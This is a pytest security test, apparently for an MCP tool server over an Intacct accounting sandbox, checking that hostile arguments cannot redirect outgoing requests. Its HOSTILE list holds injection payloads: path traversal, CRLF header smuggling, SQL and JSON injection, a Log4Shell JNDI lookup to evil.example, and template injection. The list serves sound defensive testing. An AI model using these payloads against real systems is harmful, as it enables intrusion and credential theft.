"""Whatever a tool is asked for: requests go to the query service and to records of the one company, nowhere else."""

import re
from collections.abc import AsyncIterator, Iterator
from typing import Any

import httpx2
import pytest

from agent import Agent
from every_tool import CALLS, EVIDENCE
from far_end import QUICK, TODAY, tools_over
from intacct_client.connect import connect
from intacct_client.token_store import MemoryTokenStore
from intacct_mcp.connection import sandbox_account
from intacct_sandbox.serve import Sandbox, Seed
from opened import company

HOSTILE = [
    "https://evil.example/ia/api/v1/objects/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "../../oauth2/token",
    "..%2f..%2foauth2%2ftoken",
    "1/../../../services/core/session/id",
    "x?y=z#w",
    "%00",
    "a\r\nHost: evil.example\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1",
    "a\nAuthorization: Bearer x",
    "\x00\x07\x1b[2J",
    "' OR 1=1 --",
    '"}],"object":"company-config/user","x":[{"',
    "${jndi:ldap://evil.example/a}",
    "{{constructor}}",
    "\u202egpj.exe",
    "\u0660\u0661\u0662",
    "9" * 5_000,
    "x" * 20_000,
    "..",
    ".",
    "/",
    "-1",
    "NaN",
    "1e999999999",
    "null",
    "[]",
]
PATHS = re.compile(
    r"/ia/api/v1/(oauth2/token|services/core/query"
    r"|services/core/model(\?name=objects%2F[a-z-]+%2F[a-z-]+&version=v1)?"
    r"|objects/[a-z-]+/[a-z-]+/(\d+|setup))"
)
HEADERS = {
    "accept",
    "accept-encoding",
    "authorization",
    "connection",
    "content-length",
    "content-type",
    "host",
    "user-agent",
}


class Watched(httpx2.AsyncBaseTransport):
    """The way to the sandbox; keeps what goes out."""

    def __init__(self, sandbox: Sandbox) -> None:
        self.sent: list[httpx2.Request] = []
        self._inner = httpx2.ASGITransport(app=sandbox.app)

    async def handle_async_request(self, request: httpx2.Request) -> httpx2.Response:
        self.sent.append(request)
        return await self._inner.handle_async_request(request)


@pytest.fixture(scope="module")
def small() -> Iterator[Sandbox]:
    with company(Seed(1, TODAY, 500)) as sandbox:
        yield sandbox


@pytest.fixture
def way(small: Sandbox) -> Watched:
    return Watched(small)


@pytest.fixture
async def asked(small: Sandbox, way: Watched) -> AsyncIterator[Agent]:
    async with (
        connect(
            sandbox_account(small), MemoryTokenStore(), make_transport=lambda: way, limits=QUICK
        ) as intacct,
        tools_over(intacct) as agent,
    ):
        yield agent


async def test_every_tool_is_called_by_tests_that_hold_for_all(asked: Agent):
    assert set(CALLS) == {tool.name for tool in (await asked.client.list_tools()).tools}


@pytest.mark.parametrize("tool", CALLS)
@pytest.mark.behaviour("sign-in.one-address")
async def test_no_argument_leads_a_request_astray(asked: Agent, way: Watched, tool: str):
    tools = {each.name: each for each in (await asked.client.list_tools()).tools}
    names = [
        name
        for name, schema in tools[tool].input_schema["properties"].items()
        if schema.get("type") == "string"
    ]
    await _is_answered_or_told(asked, tool, CALLS[tool])
    for name in names:
        for hostile in HOSTILE:
            await _is_answered_or_told(asked, tool, {**CALLS[tool], name: hostile})
    # A tool without words asks once; an unknown handle is refused before anything.
    assert len(way.sent) > 3 or tool == EVIDENCE or (way.sent and not names)
    for request in way.sent:
        assert (request.url.scheme, request.url.host, request.url.port) == (
            "http",
            "localhost",
            None,
        )
        assert PATHS.fullmatch(request.url.raw_path.decode()), request.url
        assert set(request.headers) <= HEADERS


async def _is_answered_or_told(agent: Agent, tool: str, arguments: dict[str, Any]) -> None:
    result = await agent.client.call_tool(tool, arguments)
    (content,) = result.content
    text = getattr(content, "text", "")
    assert "Error executing" not in text, (tool, arguments)
    if result.is_error:
        assert len(text) < 700, text
